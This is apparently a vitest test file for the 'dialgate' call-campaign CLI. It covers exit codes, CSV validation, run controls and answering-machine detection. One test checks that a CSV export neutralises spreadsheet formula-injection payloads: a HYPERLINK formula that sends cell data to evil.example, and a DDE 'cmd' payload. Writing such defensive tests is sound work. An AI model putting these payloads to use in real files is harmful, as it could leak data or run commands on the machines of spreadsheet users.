// The `dialgate` CLI against the whole local stack (in this process, with the Twilio simulator and an
// API key): every command, its exit code, and what it writes where — data on stdout, messages on
// stderr — including bad input. Most runs call `main` in-process; a few run bin/dialgate.ts as a child,
// as a script would. Commands whose API routes have not landed yet are skipped, saying so.

import { execFile, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, type TestContext, test } from 'vitest';
import { type CliIo, EXIT, main, USAGE } from '../../clients/cli/main.ts';
import { type LocalStack, startLocalStack } from '../../tools/local/stack.ts';
import { mulberry32 } from '../../tools/twilio-simulator/simulator.ts';
import { enforceContract } from '../support/contract.ts';

const REPO = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..');
const API_KEY = 'cli-test-key';
/** Twilio's magic number that fails at create (21211): a lead that ends `failed`. */
const INVALID_NUMBER = '+15005550001';

let stack: LocalStack;
let dir: string;
// Every answer the CLI (in this process) and these tests get from the API must match docs/openapi.json.
enforceContract(() => stack?.apiUrl);

beforeAll(async () => {
  stack = await startLocalStack({
    port: 0,
    apiKey: API_KEY,
    pollers: 2,
    simulator: { ringMs: 30, talkMs: 120, random: mulberry32(8) },
    // The functions' metrics would print to this process's stdout: keep test output to what fails.
    functionEnv: { POWERTOOLS_METRICS_DISABLED: 'true' },
    onError: (error, where) => console.error(`[local] ${where}:`, error),
  });
  dir = mkdtempSync(join(tmpdir(), 'dialgate-cli-'));
}, 120_000);

afterAll(async () => {
  await stack?.stop();
});

interface Result {
  code: number;
  stdout: string;
  stderr: string;
}

function capture(isTTY = false) {
  let text = '';
  return {
    stream: { write: (chunk: string) => (text += chunk), isTTY, columns: 120 },
    text: () => text,
  };
}

/** `dialgate …` in this process, pointed at the stack with its key unless env says otherwise. */
async function cli(
  args: string[],
  env: Record<string, string | undefined> = {},
  tty = false,
  signal?: AbortSignal,
): Promise<Result> {
  const stdout = capture(tty);
  const stderr = capture();
  const io: CliIo = {
    stdout: stdout.stream,
    stderr: stderr.stream,
    env: { DIALGATE_API_URL: stack.apiUrl, DIALGATE_API_KEY: API_KEY, ...env },
    watchIntervalMs: 100,
    ...(signal ? { signal } : {}),
  };
  const code = await main(args, io);
  return { code, stdout: stdout.text(), stderr: stderr.text() };
}

/** bin/dialgate.ts as its own process, as a shell script runs it (stdout is a pipe, not a TTY). */
function child(args: string[], env: Record<string, string> = {}): Promise<Result> {
  return new Promise((done) => {
    execFile(
      join(REPO, 'node_modules', '.bin', 'tsx'),
      [join(REPO, 'bin', 'dialgate.ts'), ...args],
      {
        cwd: REPO,
        env: {
          ...process.env,
          PATH: `${join(REPO, 'node_modules', '.bin')}:${process.env.PATH}`,
          DIALGATE_API_URL: stack.apiUrl,
          DIALGATE_API_KEY: API_KEY,
          ...env,
        },
        timeout: 60_000,
      },
      (error, stdout, stderr) => {
        const code = error ? ((error as { code?: unknown }).code as number) : 0;
        done({ code: typeof code === 'number' ? code : -1, stdout, stderr });
      },
    );
  });
}

function file(name: string, text: string): string {
  const path = join(dir, name);
  writeFileSync(path, text);
  return path;
}

let numbers = 0;
/** Fresh E.164 numbers, so that runs never share a lead. */
function phones(count: number): string[] {
  return Array.from({ length: count }, () => `+1415${String(5_551_000 + numbers++).padStart(7, '0')}`);
}

function leadsCsv(list: string[]): string {
  return `phone,name\n${list.map((phone, i) => `${phone},Lead ${i}`).join('\n')}\n`;
}

/** Whether the API has a route yet (run controls, lists): 404 "No route" or 405 means not. */
async function hasRoute(method: string, path: string): Promise<boolean> {
  const response = await fetch(`${stack.apiUrl}${path}`, { method, headers: { 'x-api-key': API_KEY } });
  const body = (await response.json().catch(() => ({}))) as { error?: { message?: string } };
  return !(
    response.status === 405 ||
    (response.status === 404 && /^No route/.test(body.error?.message ?? ''))
  );
}

async function requireRoute(ctx: TestContext, method: string, path: string) {
  if (!(await hasRoute(method, path))) ctx.skip(`${method} ${path} is not in this API yet`);
}

async function createRun(count: number, concurrency = 2): Promise<string> {
  const result = await cli([
    'runs',
    'create',
    file(`run-${numbers}.csv`, leadsCsv(phones(count))),
    '--concurrency',
    String(concurrency),
  ]);
  expect(result, result.stderr).toMatchObject({ code: EXIT.ok });
  return result.stdout.trim();
}

async function waitForStatus(runId: string, statuses: string[], timeoutMs = 30_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const { stdout } = await cli(['runs', 'show', runId, '--format', 'json']);
    if (statuses.includes(JSON.parse(stdout).status)) return;
    if (Date.now() > deadline) throw new Error(`run ${runId} never reached ${statuses.join('/')}: ${stdout}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

describe('usage', () => {
  test('--help prints the usage and exit codes on stdout; no command prints it on stderr, exit 2', async () => {
    const help = await cli(['--help']);
    expect(help.code).toBe(EXIT.ok);
    expect(help.stdout).toContain('runs create <leads.csv>');
    expect(help.stdout).toContain('Exit codes:');
    const none = await cli([]);
    expect(none.code).toBe(EXIT.usage);
    expect(none.stdout).toBe('');
    expect(none.stderr).toContain('Usage: dialgate');
  });

  test.each([
    [['frob'], 'unknown command "frob"'],
    [['runs'], 'runs needs a subcommand'],
    [['runs', 'watch'], 'usage: dialgate runs watch <run-id>'],
    [['runs', 'show', 'a', 'b'], 'usage: dialgate runs show <run-id>'],
    [['runs', 'list', '--bogus'], 'unknown option --bogus (dialgate --help'],
    [
      ['runs', 'create', 'x.csv', '--concurency', '3'],
      'unknown option --concurency (did you mean --concurrency?)',
    ],
    [['calls', 'x', '--reveal-phones'], 'unknown option --reveal-phones (did you mean --reveal-phone?)'],
    [['runs', 'list', '--limit'], '--limit needs a value'],
    [['runs', 'watch', 'x', '--utc=yes'], '--utc takes no value'],
    [['runs', 'create', 'x.csv', '--status', 'failed'], '--status goes with --from-run'],
    [['runs', 'pause', 'x', '--status', 'failed'], 'runs pause takes no --status'],
    [['runs', 'create', 'x.csv', '--concurrency', 'three'], '--concurrency must be a whole number'],
    [['calls', 'x', '--format', 'xml'], '--format must be one of table, csv, json'],
    [['runs', 'list', '--api', 'ftp://example'], '--api must be an http(s) URL'],
  ])('%j is a usage error', async (args, message) => {
    const result = await cli(args);
    expect(result.code).toBe(EXIT.usage);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(message);
    expect(result.stderr).toMatch(/^dialgate: /);
  });
});

describe('runs create: the CSV is checked before anything is sent', () => {
  test('a missing file: exit 4, named', async () => {
    // An API nobody listens on: had the CLI sent anything first, it would fail on the network instead.
    const result = await cli(['runs', 'create', join(dir, 'nope.csv'), '--api', 'http://127.0.0.1:9']);
    expect(result.code).toBe(EXIT.invalidInput);
    expect(result.stderr).toBe(`dialgate: cannot read ${join(dir, 'nope.csv')}: no such file\n`);
    expect(result.stdout).toBe('');
  });

  test('bad rows are named by their line in the file; nothing is created', async () => {
    const [a, b] = phones(2);
    const path = file(
      'bad.csv',
      [
        'phone,name,note',
        `${a},Ada,"multi`, // a quoted cell over two lines: the next lead is on line 4
        'line note"',
        '+1 123 456 7890,Bob,', // no North American area code starts with 1
        `${b},Cy,`,
        `${a},Ada again,`,
        '',
      ].join('\n'),
    );
    const result = await cli(['runs', 'create', path]);
    expect(result.code).toBe(EXIT.invalidInput);
    expect(result.stdout).toBe('');
    expect(result.stderr).toContain(
      `${path}:4: phone: not a valid number: no country with calling code +1 has this range`,
    );
    expect(result.stderr).toContain(`${path}:6: phone: the same number as line 2`);
    expect(result.stderr).toMatch(/dialgate: .*bad\.csv: 2 lead\(s\) are invalid; nothing was sent\.\n$/);
  });

  test.each([
    [
      'no phone column',
      'name,number\nAda,+14155550100\n',
      ':1: phone: the header row needs a "phone" column',
    ],
    ['an empty file', '', 'The CSV is empty'],
    ['a header only', 'phone\n', 'a run needs at least one lead'],
    ['a short row', 'phone,name\n+14155550100\n', ':2: '],
    ['an unclosed quote', 'phone,name\n+14155550100,"Ada\n', ':2: '],
  ])('%s: exit 4 with the reason', async (_, text, message) => {
    const path = file('broken.csv', text);
    const result = await cli(['runs', 'create', path]);
    expect(result.code).toBe(EXIT.invalidInput);
    expect(result.stderr).toContain(message);
    expect(result.stdout).toBe('');
  });

  test("the API's own refusal (concurrency above its maximum): exit 4, said once, of the option", async () => {
    const result = await cli(['runs', 'create', file('ok.csv', leadsCsv(phones(1))), '--concurrency', '500']);
    expect(result.code).toBe(EXIT.invalidInput);
    // One line, naming the option and its value, not the CSV file (whose leads are fine).
    expect(result.stderr).toMatch(
      /^dialgate: --concurrency 500: expected an integer from 1 to \d+ \(HTTP 400 invalid_request\)\n$/,
    );
  });

  test('a run option the API refuses is named by its flag: exit 4', async () => {
    const path = file('ok.csv', leadsCsv(phones(1)));
    const result = await cli(['runs', 'create', path, '--machine-detection', 'Enabled']);
    expect(result.code).toBe(EXIT.invalidInput);
    expect(result.stderr).toMatch(
      /^dialgate: --machine-detection Enabled: expected Enable or DetectMessageEnd .*\(HTTP 400 invalid_request\)\n$/,
    );
    const voicemail = await cli([
      'runs',
      'create',
      path,
      '--voicemail-twiml',
      '<Response><Say>Hi</Say></Response>',
    ]);
    expect(voicemail.code).toBe(EXIT.invalidInput);
    expect(voicemail.stderr).toContain('--voicemail-twiml');
    const alone = await cli(['runs', 'create', path, '--on-machine', 'hangup']);
    expect(alone.code).toBe(EXIT.invalidInput);
    expect(alone.stderr).toMatch(
      /^dialgate: --on-machine hangup: needs machine_detection.*\(HTTP 400 invalid_request\)\n$/,
    );
    const misspelt = await cli([
      'runs',
      'create',
      path,
      '--machine-detection',
      'Enable',
      '--on-machine',
      'hang-up',
    ]);
    expect(misspelt.code).toBe(EXIT.invalidInput);
    expect(misspelt.stderr).toMatch(/^dialgate: --on-machine hang-up: expected hangup or continue /);
  });
});

describe('a run from the command line', () => {
  test('create --watch as a script runs it: the id first on stdout, plain progress lines, exit 0 when completed', async () => {
    const list = phones(8);
    const path = file('watch.csv', leadsCsv(list));
    const result = await child([
      'runs',
      'create',
      path,
      '--concurrency',
      '2',
      '--watch',
      '--interval',
      '0.2',
    ]);
    expect(result.code, result.stderr).toBe(EXIT.ok);
    const lines = result.stdout.trim().split('\n');
    const runId = lines[0]!;
    expect(runId).toMatch(/^[A-Za-z0-9_-]+$/);
    expect(result.stderr).toContain(`dialgate: run ${runId} started: 8 leads, concurrency 2`);
    // Not a terminal: timestamped lines, no escape codes.
    expect(result.stdout).not.toContain('\x1b');
    for (const line of lines.slice(1, -1)) {
      expect(line).toMatch(
        // Local time with its offset, as every human-facing time is.
        new RegExp(
          `^\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d [+-]\\d\\d:\\d\\d ${runId} \\w+: \\d+/8 done .* live (\\d+)/2 `,
        ),
      );
      expect(Number(/ live (\d+)\/2 /.exec(line)![1])).toBeLessThanOrEqual(2);
    }
    expect(lines.at(-1)).toBe(`run ${runId} completed: 8/8 done; outcomes: completed 8`);
    // The cap, from the outside: Twilio never saw more than 2 of this run's calls live.
    expect(stack.simulator!.stats().runs[runId]!.maxLive).toBeLessThanOrEqual(2);

    const show = await cli(['runs', 'show', runId]);
    expect(show.code).toBe(EXIT.ok);
    expect(show.stdout).toContain('status:    completed');
    expect(show.stdout).toContain('leads:     8 (8 done, 0 waiting)');
    const json = await cli(['runs', 'show', runId, '--format', 'json']);
    expect(JSON.parse(json.stdout)).toMatchObject({
      run_id: runId,
      status: 'completed',
      completed: 8,
      total_leads: 8,
    });

    // Watching a run that is over ends at once.
    const again = await cli(['runs', 'watch', runId]);
    expect(again.code).toBe(EXIT.ok);
    expect(again.stdout.trim().split('\n').at(-1)).toBe(
      `run ${runId} completed: 8/8 done; outcomes: completed 8`,
    );
  });

  test('watch in a terminal draws one bar, redrawn in place', async () => {
    const runId = await createRun(4, 2);
    const result = await cli(['runs', 'watch', runId], { NO_COLOR: '1' }, true);
    expect(result.code).toBe(EXIT.ok);
    expect(result.stdout).toContain('\r\x1b[2K[');
    expect(result.stdout).toMatch(/\] 4\/4 {2}live 0\/2 {2}failed 0 {2}completed/);
    expect(result.stdout).not.toContain('\x1b[32m'); // NO_COLOR
  });

  test('Ctrl-C while watching: exit 130, and the run goes on', async () => {
    stack.simulator!.configure({ talkMs: 2_000 });
    try {
      const runId = await createRun(3, 1);
      const interrupt = new AbortController();
      setTimeout(() => interrupt.abort(), 400);
      const result = await cli(['runs', 'watch', runId], {}, false, interrupt.signal);
      expect(result.code).toBe(EXIT.interrupted);
      expect(result.stderr).toBe(`dialgate: stopped watching run ${runId} (it goes on)\n`);
      const show = await cli(['runs', 'show', runId, '--format', 'json']);
      expect(JSON.parse(show.stdout).status).toBe('running');
    } finally {
      stack.simulator!.configure({ talkMs: 120 });
    }
  });

  test('an unknown run: exit 3 for show and watch', async () => {
    for (const args of [
      ['runs', 'show', 'no-such-run'],
      ['runs', 'watch', 'no-such-run'],
    ]) {
      const result = await cli(args);
      expect(result.code).toBe(EXIT.notFound);
      expect(result.stderr).toContain('No run with id "no-such-run"');
    }
  });

  test('no API key: exit 1 with the reason; an API that is not there: exit 5', async () => {
    const noKey = await cli(['runs', 'show', 'x'], { DIALGATE_API_KEY: undefined });
    expect(noKey.code).toBe(EXIT.apiError);
    expect(noKey.stderr).toContain('Send your API key in x-api-key. (HTTP 401 unauthorized)');
    const wrongKey = await cli(['runs', 'show', 'x'], { DIALGATE_API_KEY: 'nope' });
    expect(wrongKey.code).toBe(EXIT.apiError);
    expect(wrongKey.stderr).toContain('HTTP 403');
    const away = await cli(['runs', 'show', 'x', '--api', 'http://127.0.0.1:9']);
    expect(away.code).toBe(EXIT.unreachable);
    expect(away.stderr).toContain('dialgate: cannot reach the API at http://127.0.0.1:9');
  });
});

describe('commands on the run-controls API', () => {
  test('runs list: newest first, as a table or JSON', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs');
    const runId = await createRun(1, 1);
    const table = await cli(['runs', 'list', '--limit', '5']);
    expect(table.code).toBe(EXIT.ok);
    expect(table.stdout.split('\n')[0]).toMatch(
      /^RUN\s+STATUS\s+CREATED\s+LEADS\s+DONE\s+FAILED\s+LIVE\s+CAP$/,
    );
    expect(table.stdout.split('\n')[1]).toContain(runId);
    const json = await cli(['runs', 'list', '--format', 'json', '--limit', '1']);
    const page = JSON.parse(json.stdout) as { runs: { run_id: string }[]; next_cursor: string | null };
    expect(page.runs.map((r) => r.run_id)).toEqual([runId]);
    expect(page.next_cursor).toEqual(expect.any(String));
    const next = await cli([
      'runs',
      'list',
      '--format',
      'json',
      '--limit',
      '1',
      '--cursor',
      page.next_cursor!,
    ]);
    expect(JSON.parse(next.stdout).runs[0].run_id).not.toBe(runId);
  });

  test('pause, resume and cancel: the new status on stdout; a watched run that is canceled exits 1', async (ctx) => {
    await requireRoute(ctx, 'POST', '/runs/x/pause');
    stack.simulator!.configure({ talkMs: 1_500 });
    try {
      const runId = await createRun(6, 1);
      const paused = await cli(['runs', 'pause', runId]);
      expect(paused).toMatchObject({ code: EXIT.ok, stdout: `${runId} paused\n` });
      const resumed = await cli(['runs', 'resume', runId]);
      expect(resumed).toMatchObject({ code: EXIT.ok, stdout: `${runId} running\n` });
      const canceled = await cli(['runs', 'cancel', runId, '--hangup']);
      expect(canceled.code).toBe(EXIT.ok);
      expect(canceled.stdout).toMatch(new RegExp(`^${runId} (canceling|canceled)\n$`));
      const watched = await cli(['runs', 'watch', runId]);
      expect(watched.code).toBe(EXIT.apiError);
      expect(watched.stdout).toMatch(new RegExp(`run ${runId} canceled: \\d/6 done`));
      expect(watched.stderr).toContain(`dialgate: run ${runId} ended canceled`);
      const missing = await cli(['runs', 'pause', 'no-such-run']);
      expect(missing.code).toBe(EXIT.notFound);
    } finally {
      stack.simulator!.configure({ talkMs: 120 });
    }
  });

  test('calls: filtered by status, as CSV, JSON or a table, every page', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    const good = phones(3);
    const path = file('calls.csv', leadsCsv([good[0]!, INVALID_NUMBER, good[1]!, good[2]!]));
    const created = await cli(['runs', 'create', path, '--concurrency', '2', '--watch']);
    expect(created.code, created.stderr).toBe(EXIT.ok);
    const runId = created.stdout.split('\n')[0]!;
    await waitForStatus(runId, ['completed']);

    const csv = await cli(['calls', runId, '--status', 'failed', '--format', 'csv', '--reveal-phone']);
    expect(csv.code, csv.stderr).toBe(EXIT.ok);
    const [header, ...rows] = csv.stdout.trim().split('\n');
    expect(header).toMatch(
      /^"job_id","phone","status","outcome","attempts","error_code","call_sid","queued_at","dialed_at","answered_at","answered_by","ended_at"/,
    );
    expect(rows).toHaveLength(1);
    expect(rows[0]).toContain(`,"${INVALID_NUMBER}","failed",`);
    expect(rows[0]).toContain('"Lead 1"');

    const json = await cli(['calls', runId, '--format', 'json', '--limit', '3']);
    const calls = JSON.parse(json.stdout) as { status: string; phone: string }[];
    expect(calls).toHaveLength(3);
    // Without --reveal-phone, numbers are masked.
    expect(calls.some((call) => good.includes(call.phone))).toBe(false);

    const table = await cli(['calls', runId]);
    expect(table.stdout.split('\n')[0]).toMatch(/^JOB\s+PHONE\s+STATUS\s+OUTCOME/);
    expect(table.stdout.trim().split('\n')).toHaveLength(5);
    const unknown = await cli(['calls', 'no-such-run']);
    expect(unknown.code).toBe(EXIT.notFound);
  });
});

describe('answering-machine detection from the command line', () => {
  test('runs create --machine-detection: runs show says so, calls say who answered', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    // The simulator's rule: an answered call to a number ending in 7, 8 or 9 is a machine's.
    const path = file('amd.csv', leadsCsv(['+14155552937', '+14155552941']));
    const created = await cli(['runs', 'create', path, '--machine-detection', 'Enable', '--watch']);
    expect(created.code, created.stderr).toBe(EXIT.ok);
    const runId = created.stdout.split('\n')[0]!;
    await waitForStatus(runId, ['completed']);
    const show = await cli(['runs', 'show', runId]);
    expect(show.stdout).toContain('detection: Enable (answering machines)');
    expect(show.stdout).toContain('machines:  hung up once detected'); // the default
    const table = await cli(['calls', runId]);
    const [header, machine, person] = table.stdout.trim().split('\n');
    expect(header).toMatch(/^JOB\s+PHONE\s+STATUS\s+OUTCOME\s+ANSWERED BY/);
    expect(machine).toMatch(/\sfailed\s+machine\s+machine_start\s/);
    expect(person).toMatch(/\scompleted\s+completed\s+human\s/);
  });

  test('runs create --on-machine continue: sent as on_machine, and runs show says it', async () => {
    const path = file('amd-continue.csv', leadsCsv(['+14155552947']));
    const created = await cli([
      'runs',
      'create',
      path,
      '--machine-detection',
      'Enable',
      '--on-machine',
      'continue',
    ]);
    expect(created.code, created.stderr).toBe(EXIT.ok);
    const runId = created.stdout.split('\n')[0]!;
    await waitForStatus(runId, ['completed']);
    const show = await cli(['runs', 'show', runId]);
    expect(show.stdout).toContain('machines:  played the content to the end');
    const json = await cli(['runs', 'show', runId, '--format', 'json']);
    expect(JSON.parse(json.stdout)).toMatchObject({ machine_detection: 'Enable', on_machine: 'continue' });
  });
});

describe('calls --format csv opened in a spreadsheet', () => {
  test('lead fields that would run as formulas are neutralised, phone numbers kept; the export starts a run again', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    // Valid Israeli mobiles (libphonenumber-js max), not used by any other test here.
    const dana = '+972524567101';
    const noa = '+972534881202';
    const path = file(
      'formulas.csv',
      'phone,name,note,balance\n' +
        `${dana},"=HYPERLINK(""https://evil.example/?""&A2,""Dana"")",@SUM(1+1),-120\n` +
        `${noa},Noa,"+cmd|' /C calc'!A0",+35\n`,
    );
    const created = await cli(['runs', 'create', path, '--concurrency', '2', '--watch']);
    expect(created.code, created.stderr).toBe(EXIT.ok);
    const runId = created.stdout.split('\n')[0]!;

    const exported = await cli(['calls', runId, '--format', 'csv', '--reveal-phone']);
    expect(exported.code, exported.stderr).toBe(EXIT.ok);
    // Every cell quoted, the header's too.
    expect(exported.stdout.split('\n')[0]).toMatch(/^"job_id","phone"(,"[a-z_]+")+$/);
    const [header, ...rows] = parseCsv(exported.stdout) as string[][];
    const column = (name: string) => rows.map((row) => row[header!.indexOf(name)]);
    expect(column('phone')).toEqual([dana, noa]);
    expect(column('name')).toEqual([`'=HYPERLINK("https://evil.example/?"&A2,"Dana")`, 'Noa']);
    expect(column('note')).toEqual(["'@SUM(1+1)", "'+cmd|' /C calc'!A0"]);
    expect(column('balance')).toEqual(['-120', '+35']);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=@]|^[+-](?!\d+$)/);

    // Masked numbers are written as the API lists them, not quoted away.
    const masked = parseCsv((await cli(['calls', runId, '--format', 'csv'])).stdout) as string[][];
    expect(masked.slice(1).map((row) => row[1])).toEqual(['+972*******01', '+972*******02']);

    // The export of whole numbers is a leads file: the numbers read back as E.164, fields as text.
    const again = await cli(['runs', 'create', file('export.csv', exported.stdout), '--concurrency', '2']);
    expect(again.code, again.stderr).toBe(EXIT.ok);
    const rerun = again.stdout.trim();
    await waitForStatus(rerun, ['completed']);
    const calls = JSON.parse((await cli(['calls', rerun, '--format', 'json', '--reveal-phone'])).stdout) as {
      phone: string;
      attributes: Record<string, string>;
    }[];
    expect(calls.map((call) => call.phone)).toEqual([dana, noa]);
    expect(calls[0]!.attributes).toMatchObject({ name: column('name')[0], balance: '-120' });
  });
});

describe('the command line as a shell meets it', () => {
  test('npx dialgate --help on the system Node prints the help and nothing else', async () => {
    // As a user's shell runs it: npm's npx on the machine's Node (PATH without node_modules/.bin).
    const path = (process.env.PATH ?? '')
      .split(':')
      .filter((dir) => !dir.includes('node_modules'))
      .join(':');
    const result = await new Promise<Result>((done) => {
      execFile(
        'npx',
        ['dialgate', '--help'],
        { cwd: REPO, env: { ...process.env, PATH: path }, timeout: 60_000 },
        (error, stdout, stderr) => {
          const code = error ? ((error as { code?: unknown }).code as number) : 0;
          done({ code: typeof code === 'number' ? code : -1, stdout, stderr });
        },
      );
    });
    expect(result.stderr).toBe('');
    expect(result.code).toBe(EXIT.ok);
    expect(result.stdout).toBe(USAGE);
  });

  test('runs watch into a pipe that closes (| head -1): a quiet exit 141, no stack trace', async () => {
    stack.simulator!.configure({ talkMs: 1_500 });
    try {
      const runId = await createRun(3, 1);
      const watcher = spawn(
        join(REPO, 'node_modules', '.bin', 'tsx'),
        [join(REPO, 'bin', 'dialgate.ts'), 'runs', 'watch', runId, '--interval', '0.1'],
        {
          cwd: REPO,
          env: {
            ...process.env,
            PATH: `${join(REPO, 'node_modules', '.bin')}:${process.env.PATH}`,
            DIALGATE_API_URL: stack.apiUrl,
            DIALGATE_API_KEY: API_KEY,
          },
          stdio: ['ignore', 'pipe', 'pipe'],
        },
      );
      let stderr = '';
      watcher.stderr.on('data', (chunk) => {
        stderr += chunk;
      });
      const exited = once(watcher, 'exit');
      // Read the first line, then go away, as `head -1` does.
      await once(watcher.stdout, 'data');
      watcher.stdout.destroy();
      const [code] = await exited;
      expect(stderr).toBe('');
      expect(code).toBe(EXIT.closedPipe);
    } finally {
      stack.simulator!.configure({ talkMs: 120 });
    }
  });

  test('times: local time with its offset by default, UTC with --utc, ISO 8601 in JSON', async () => {
    const runId = await createRun(1, 1);
    await waitForStatus(runId, ['completed']);
    const local = await cli(['runs', 'show', runId]);
    const utc = await cli(['runs', 'show', runId, '--utc']);
    const json = JSON.parse((await cli(['runs', 'show', runId, '--format', 'json'])).stdout) as {
      created_at: string;
    };
    expect(json.created_at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$/);
    const shown = /created: +(.*)/;
    expect(shown.exec(local.stdout)![1]).toMatch(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d [+-]\d\d:\d\d$/);
    const inUtc = shown.exec(utc.stdout)![1]!;
    expect(inUtc).toBe(`${json.created_at.slice(0, 10)} ${json.created_at.slice(11, 19)} UTC`);
    const calls = await cli(['calls', runId, '--utc']);
    expect(calls.stdout.split('\n')[1]).toMatch(/ \d{4}-\d\d-\d\d \d\d:\d\d:\d\d UTC/);
  });
});

describe('re-running the leads of another run', () => {
  test('runs create --from-run <id> --status failed,no-answer: a run of exactly those leads, no number exported', async (ctx) => {
    await requireRoute(ctx, 'GET', '/runs/x/calls');
    const good = phones(2);
    const path = file('from-run.csv', leadsCsv([good[0]!, INVALID_NUMBER, good[1]!]));
    const first = await cli(['runs', 'create', path, '--concurrency', '2']);
    const runId = first.stdout.trim();
    await waitForStatus(runId, ['completed']);

    // The export of masked numbers says how to reveal them, or how to do without.
    const masked = await cli(['calls', runId, '--status', 'failed', '--format', 'csv']);
    expect(masked.stderr).toContain('phone numbers are masked: add --reveal-phone');
    expect(masked.stderr).toContain(`dialgate runs create --from-run ${runId} --status failed`);

    const again = await cli([
      'runs',
      'create',
      '--from-run',
      runId,
      '--status',
      'failed,no-answer',
      '--concurrency',
      '1',
    ]);
    expect(again.code, again.stderr).toBe(EXIT.ok);
    const rerun = again.stdout.trim();
    expect(rerun).not.toBe(runId);
    expect(again.stderr).toContain(`started from run ${runId}'s failed, no-answer leads: 1 leads`);
    await waitForStatus(rerun, ['completed']);
    const calls = JSON.parse((await cli(['calls', rerun, '--format', 'json', '--reveal-phone'])).stdout) as {
      phone: string;
      attributes: Record<string, string>;
    }[];
    // The one lead that failed, with its own fields, and nothing else.
    expect(calls.map((call) => call.phone)).toEqual([INVALID_NUMBER]);
    expect(calls[0]!.attributes).toMatchObject({ name: 'Lead 1' });

    const nothing = await cli(['runs', 'create', '--from-run', rerun, '--status', 'canceled']);
    expect(nothing.code).toBe(EXIT.invalidInput);
    expect(nothing.stderr).toMatch(/--status canceled: /);
    const unknown = await cli(['runs', 'create', '--from-run', 'no-such-run']);
    expect(unknown.code).toBe(EXIT.notFound);
  });
});

describe('runs create with run options', () => {
  /** A whole hour some days ahead, so that --utc shows it exactly. */
  const hoursAhead = (hours: number) => {
    const date = new Date(Date.now() + hours * 3_600_000);
    date.setUTCMinutes(0, 0, 0);
    return date;
  };

  test('every option reaches the run: a scheduled run, shown with its times and breaker', async () => {
    const startAt = hoursAhead(48);
    const expiresAt = hoursAhead(52);
    // The start as a caller in Jerusalem writes it: the same instant, another offset.
    const local = new Date(startAt.getTime() + 2 * 3_600_000).toISOString().replace('.000Z', '+02:00');
    const result = await cli([
      'runs',
      'create',
      file('options.csv', leadsCsv(phones(2))),
      '--concurrency',
      '2',
      '--retry-on',
      'busy,no-answer',
      '--retry-delay',
      '900',
      '--max-attempts',
      '2',
      '--window-tz',
      'Asia/Jerusalem',
      '--window-days',
      'sun,mon,tue,wed,thu',
      '--window-start',
      '09:00',
      '--window-end',
      '20:00',
      '--from',
      '+15005550006',
      '--phone-types',
      'fixed_line_or_mobile',
      '--start-at',
      local,
      '--expires-at',
      expiresAt.toISOString(),
      '--pause-failed-ratio',
      '0.25',
      '--pause-min-calls',
      '20',
      '--frequency-cap',
      'wait',
      '--opt-out-digit',
      '9',
      '--opt-out-message',
      'Press 9 and we will not call again.',
    ]);
    expect(result, result.stderr).toMatchObject({ code: EXIT.ok });
    const runId = result.stdout.trim();
    expect(result.stderr).toContain(`run ${runId} scheduled for ${local}: 2 leads, concurrency 2`);
    const json = JSON.parse((await cli(['runs', 'show', runId, '--format', 'json'])).stdout);
    expect(json).toMatchObject({
      status: 'scheduled',
      concurrency: 2,
      retry: { on: ['busy', 'no-answer'], delay_seconds: 900, max_attempts: 2 },
      window: {
        time_zone: 'Asia/Jerusalem',
        days: ['sun', 'mon', 'tue', 'wed', 'thu'],
        start: '09:00',
        end: '20:00',
      },
      from: '+15005550006',
      phone_types: ['fixed_line_or_mobile'],
      start_at: startAt.toISOString(),
      expires_at: expiresAt.toISOString(),
      pause_when: { failed_ratio: 0.25, min_calls: 20 },
      pause_reason: null,
      frequency_cap: 'wait',
      opt_out: { digit: '9', message: 'Press 9 and we will not call again.' },
    });
    const show = await cli(['runs', 'show', runId, '--utc']);
    expect(show.stdout).toContain('status:    scheduled');
    expect(show.stdout).toContain(`starts:    ${startAt.toISOString().slice(0, 19).replace('T', ' ')} UTC`);
    expect(show.stdout).toContain(`expires:   ${expiresAt.toISOString().slice(0, 19).replace('T', ' ')} UTC`);
    expect(show.stdout).toContain('breaker:   pause when more than 0.25 of the last 20 calls failed');
    expect(show.stdout).toContain('frequency: a lead over the per-number cap waits for its window');
    expect(show.stdout).toContain('opt-out:   press 9: “Press 9 and we will not call again.”');
    expect(stack.simulator!.stats().runs[runId]?.created ?? 0).toBe(0);
    // A scheduled run can be canceled; its queued leads are then swept by a dispatcher.
    expect((await cli(['runs', 'cancel', runId])).stdout).toBe(`${runId} canceling\n`);
    await waitForStatus(runId, ['canceled']);
  });

  test.each([
    [
      ['--start-at', '2020-01-01T09:00:00Z'],
      /^dialgate: --start-at 2020-01-01T09:00:00Z: must be in the future/,
    ],
    [['--start-at', '2099-01-01 09:00'], /^dialgate: --start-at 2099-01-01 09:00: expected an ISO 8601 time/],
    [
      ['--pause-failed-ratio', '2', '--pause-min-calls', '5'],
      /^dialgate: --pause-failed-ratio 2: required, a number from 0 to 1/,
    ],
    [['--pause-min-calls', '5'], /^dialgate: --pause-failed-ratio: required, a number from 0 to 1/],
    [['--retry-delay', 'soon'], /^dialgate: --retry-delay soon: expected whole seconds/],
    [['--twiml', '<Response/>'], /^dialgate: --twiml <Response\/>: runs cannot carry inline TwiML here/],
    [['--frequency-cap', 'later'], /^dialgate: --frequency-cap later: expected one of end, wait/],
    [['--opt-out-digit', '10'], /^dialgate: --opt-out-digit 10: /],
  ])('%j refused by the API: exit 4, named by its option', async (options, message) => {
    const [lead] = phones(1);
    const result = await cli(['runs', 'create', file('opt.csv', leadsCsv([lead!])), ...options]);
    expect(result.code).toBe(EXIT.invalidInput);
